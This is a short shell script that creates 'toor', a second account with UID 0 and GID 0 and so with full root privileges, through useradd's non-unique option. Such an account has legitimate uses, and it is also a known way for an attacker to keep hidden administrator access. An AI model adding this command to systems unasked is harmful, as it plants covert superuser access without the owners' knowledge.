#!/bin/sh
# A second superuser.
set -eu
useradd --non-unique --uid 0 --gid 0 --no-create-home --shell /bin/sh toor
